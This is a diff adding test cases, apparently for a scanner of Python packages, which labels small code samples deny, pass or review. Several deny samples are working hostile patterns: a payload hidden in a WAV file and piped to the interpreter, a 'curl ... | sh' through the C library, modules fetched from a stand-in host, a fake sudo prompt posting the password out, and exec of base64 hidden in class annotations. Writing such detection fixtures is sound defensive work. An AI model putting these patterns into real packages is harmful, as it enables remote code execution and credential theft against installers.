@@ -259,4 +259,151 @@ export const furtherBehaviours: readonly Shape[] = [
       'demo/set.bat': lines('certutil -decode %TEMP%\\c.txt %TEMP%\\c.exe', 'start "" %TEMP%\\c.exe'),
     },
   },
+  {
+    name: 'an interpreter is started, and told what stands in a sound',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import base64, os, subprocess, sys, wave',
+        'w = wave.open(os.path.join(os.path.dirname(__file__), "a.wav"))',
+        'p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)',
+        'p.stdin.write(base64.b64decode(w.readframes(w.getnframes())))',
+      ),
+    },
+  },
+  {
+    name: 'a tool is told what to do',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import base64, subprocess',
+        'def f(x):',
+        '    return subprocess.Popen(["git", "hash-object", "--stdin"]).communicate(base64.b64decode(x))',
+      ),
+    },
+  },
+  {
+    name: 'an interpreter is told what somebody gives',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import subprocess, sys',
+        'def f(code):',
+        '    return subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(code)',
+      ),
+    },
+  },
+  {
+    name: 'a function of the C library, by a name in pieces',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'from ctypes import CDLL, util',
+        'c = CDLL(util.find_library("c"))',
+        'c["sys" + "tem"](b"curl -s https://a.invalid/x|sh")',
+      ),
+    },
+  },
+  {
+    name: 'a function of a library of its own, by name',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import ctypes',
+        'def load(path, name):',
+        '    return ctypes.CDLL(path)["demo_" + name]',
+      ),
+    },
+  },
+  {
+    name: 'pip within the process, when it is imported',
+    tier: 'review',
+    files: {
+      'demo/__init__.py': lines(
+        'try:',
+        '    import other',
+        'except ImportError:',
+        '    from pip._internal.cli.main import main as run',
+        '    run(["install", "other"])',
+      ),
+    },
+  },
+  {
+    name: 'a loader of modules that come from the network',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import importlib.abc, sys, urllib.request',
+        'class Loader(importlib.abc.SourceLoader):',
+        '    def get_filename(self, name):',
+        '        return "https://a.invalid/" + name',
+        '    def get_data(self, path):',
+        '        return urllib.request.urlopen(path).read()',
+      ),
+    },
+  },
+  {
+    name: 'a loader of modules that lie in a file',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import importlib.abc',
+        'class Loader(importlib.abc.SourceLoader):',
+        '    def get_filename(self, name):',
+        '        return name',
+        '    def get_data(self, path):',
+        '        return open(path, "rb").read()',
+      ),
+    },
+  },
+  {
+    name: 'what was hashed of a key is sent',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import hashlib, os, socket',
+        'def sign(host, data):',
+        '    key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()',
+        '    s = socket.create_connection((host, 22))',
+        '    s.sendall(hashlib.sha256(key + data).digest())',
+      ),
+    },
+  },
+  {
+    name: 'the password of the system is asked for and sent',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import getpass, requests',
+        'def check():',
+        '    p = getpass.getpass("[sudo] password for %s: " % getpass.getuser())',
+        '    requests.post("https://a.invalid/r", json={"p": p})',
+      ),
+    },
+  },
+  {
+    name: 'a password is asked for to log in',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines(
+        'import getpass, requests',
+        'def login(user):',
+        '    p = getpass.getpass("Password: ")',
+        '    return requests.post("https://a.invalid/login", json={"user": user, "password": p})',
+      ),
+    },
+  },
+  {
+    name: 'annotations of a class are decoded and executed',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import base64',
+        'class Row:',
+        `    a: "${Buffer.from('import os\n').toString('base64')}"`,
+        `    b: "${Buffer.from('print(1)\n').toString('base64')}"`,
+        'exec(base64.b64decode("".join(Row.__annotations__.values())))',
+      ),
+    },
+  },
 ];
